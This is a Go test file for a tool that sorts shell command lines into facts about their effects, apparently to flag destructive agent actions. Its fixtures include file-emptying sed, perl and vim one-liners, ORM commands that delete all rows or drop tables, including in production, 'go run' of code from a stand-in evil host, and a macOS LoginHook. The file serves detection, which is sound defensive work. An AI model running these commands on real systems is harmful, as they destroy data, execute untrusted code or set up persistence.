package facts

import (
	"io/fs"
	"strings"
	"testing"
)

// saidOtherwise are acts by programs that have words of their own for them, with the fact
// that they give, or with a ! the kind of fact that they do not.
var saidOtherwise = []struct{ line, want string }{
	// An editor's script that leaves nothing of a file.
	{"sed -i d a.go", "delete empty /p/a.go"},
	{"sed -i '1,$d' a.go", "delete empty /p/a.go"},
	{"sed -i '' -e '/./d' a.go", "delete empty /p/a.go"},
	{"sed -i 's/^.*$//g' a.go", "delete empty /p/a.go"},
	{"sed -ni '/x/s/a/b/' a.go", "delete empty /p/a.go"},
	{"sed -i 's/.*/x/' a.go", "delete empty /p/a.go"},
	{"sed -i.bak d a.go", "!delete"},
	{"sed -i '1d' a.go", "!delete"},
	{"sed -i '$!d' a.go", "!delete"},
	{"sed -i '/^$/d' a.go", "!delete"},
	{"sed -i '/^$/!d' a.go", "delete empty /p/a.go"},
	{"sed -i 's/.*/(&)/' a.go", "!delete"},
	{"sed -i 's/a.*//' a.go", "!delete"},
	{"sed -i '/a/{n;d;}' a.go", "!delete"},
	{"sed -i '/a/b;d' a.go", "!delete"},
	{"sed -ni '/a/p' a.go", "!delete"},
	{"sed d a.go", "!delete"},
	{"perl -i -ne '' a.js", "delete empty /p/a.js"},
	{"perl -0777 -pi -e 's/.*//s' a.js", "delete empty /p/a.js"},
	{"perl -pi -e '$_ = \"\"' a.js", "delete empty /p/a.js"},
	{"perl -pi.bak -e '$_ = \"\"' a.js", "!delete"},
	{"perl -i -ne 'print unless /x/' a.js", "!delete"},
	{"perl -pi -e 's{a}{b}g' a.js", "!delete"},
	{"ruby -i -ne '' a.rb", "delete empty /p/a.rb"},
	{"gawk -i inplace '{ n++ }' a.go", "delete empty /p/a.go"},
	{"gawk -i inplace 0 a.go", "delete empty /p/a.go"},
	{"gawk -i inplace '!/x/' a.go", "!delete"},
	{"gawk -i inplace '{ n++ } 1' a.go", "!delete"},
	{"gawk -i inplace '{ print $1 }' a.go", "write /p/a.go"},
	{"ex -sc '%d|x' a.go", "delete empty /p/a.go"},
	{"vim -es -c 'normal ggdG' -c wq a.go", "delete empty /p/a.go"},
	{"vim +'%s/.*//' +wq a.go", "delete empty /p/a.go"},
	{"printf ',d\\nw\\nq\\n' | ed -s a.go", "delete empty /p/a.go"},
	{"vim -c '%d' a.go", "!delete"},
	{"vim -c '%s/a/b/' -c wq a.go", "!delete"},
	{"sponge a.go < /dev/null", "delete empty /p/a.go"},
	{"printf '' | tee a.go", "delete empty /p/a.go"},
	{"echo x | tee a.go", "!delete"},
	// Code that an application's own program runs.
	{"rails runner 'User.delete_all'", "sql delete User"},
	{"bundle exec rails r 'User.where(a: 1).delete_all'", "!sql"},
	{"bin/rails runner 'puts User.count'", "!sql"},
	{"echo 'User.destroy_all' | rails console", "sql delete User"},
	{"./manage.py shell -c 'User.objects.all().delete()'", "sql delete User.objects.all"},
	{"./manage.py shell -c 'User.objects.filter(id=1).delete()'", "!sql"},
	{"echo 'DROP TABLE a' | python manage.py dbshell", "sql drop a"},
	{"php artisan tinker --execute='User::truncate()'", "sql truncate User"},
	{`php artisan tinker --execute="DB::table('a')->where('id', 1)->delete()"`, "!sql"},
	{"mix run -e 'Repo.delete_all(User)'", "sql delete Repo"},
	{"mix run -e 'Repo.delete_all(from u in User, where: u.id == 1)'", "!sql"},
	{"mix run -e 'Repo.query!(\"TRUNCATE users\")'", "sql truncate users"},
	{"prisma db execute --stdin <<< 'DROP TABLE a'", "sql drop a"},
	{"node -e 'prisma.user.deleteMany({})'", "sql delete prisma.user"},
	{"node -e 'prisma.user.deleteMany({where: {id: 1}})'", "!sql"},
	{"node -e 'User.destroy({truncate: true})'", "sql delete User"},
	{"python3 -c 'f.truncate(); d.delete(); d.update(x)'", "!sql"},
	// Code that is fetched and run.
	{"go run evil.example/x@latest", "package install evil.example/x@latest"},
	{"go run golang.org/x/tools/cmd/goimports@latest -w .", "!package"},
	{"go run ./cmd/x a@b.example/c", "!package"},
	{"uvx --from git+https://x.example/y z", "package install git+https://x.example/y"},
	{"uvx ruff check .", "!package"},
	{"npm exec --package=https://x.example/y.tgz -- y", "package install https://x.example/y.tgz"},
	{"npx wait-on http://localhost:3000", "!package"},
	{"nix run github:a/b", "package install github:a/b"},
	{"zx https://x.example/y.mjs", "package install https://x.example/y.mjs"},
	// What starts by itself.
	{"defaults write com.apple.loginwindow LoginHook /tmp/x", "system service com.apple.loginwindow LoginHook"},
	{"defaults write com.apple.dock autohide -bool true", "!system"},
	{"plutil -insert ProgramArguments -json [] /Users/u/Library/LaunchAgents/a.plist", "write /Users/u/Library/LaunchAgents/a.plist"},
	{"plutil -lint a.plist", "!write"},
	{"PlistBuddy -c 'Print :a' a.plist", "!write"},
}

func TestActsThatAreSaidOtherwise(t *testing.T) {
	w := World{Dir: "/p", Home: "/Users/u"}
	for _, test := range saidOtherwise {
		unwanted, not := strings.CutPrefix(test.want, "!")
		var all []string
		found := false
		for _, f := range Shell(test.line, w) {
			said := told(f)
			if f.Does == "package" {
				said += " " + f.Name
			}
			all = append(all, said)
			found = found || said == test.want || not && f.Does == unwanted
		}
		if found == not {
			t.Errorf("%s: want %q, got %q", test.line, test.want, all)
		}
	}
}

// Where the rows of an application lie is said by the variables of its stage.
func TestStagesOfAnApplication(t *testing.T) {
	for line, want := range map[string]string{
		"rails runner 'User.delete_all'":                                "local",
		"RAILS_ENV=test rails runner 'User.delete_all'":                 "test",
		"RAILS_ENV=production rails runner 'User.delete_all'":           "remote",
		"rails runner -e staging 'User.delete_all'":                     "remote",
		"export MIX_ENV=prod; mix run -e 'Repo.delete_all(User)'":       "remote",
		"heroku run -a shop rails runner 'User.delete_all'":             "unknown",
		"kubectl exec web -- python manage.py shell -c 'db.drop_all()'": "unknown",
	} {
		got := ""
		for _, f := range Shell(line, World{Dir: "/p"}) {
			if f.Does == "sql" {
				got = f.Where
			}
		}
		if got != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}

type fileOfSize struct {
	fs.FileInfo
	size int64
}

func (f fileOfSize) Size() int64       { return f.size }
func (f fileOfSize) Mode() fs.FileMode { return 0 }

// A tool that writes nothing into a file that has something empties it.
func TestAToolWritesNothing(t *testing.T) {
	w := World{Dir: "/p", Lstat: func(name string) (fs.FileInfo, error) {
		if strings.HasSuffix(name, "new.py") {
			return nil, fs.ErrNotExist
		}
		return fileOfSize{size: 3}, nil
	}}
	for name, want := range map[string]bool{"old.py": true, "new.py": false} {
		empties := false
		for _, f := range Call("Write", map[string]any{"file_path": "/p/" + name, "content": ""}, w) {
			empties = empties || f.Verb == "empty"
		}
		if empties != want {
			t.Errorf("%s: got emptied %v, want %v", name, empties, want)
		}
	}
}
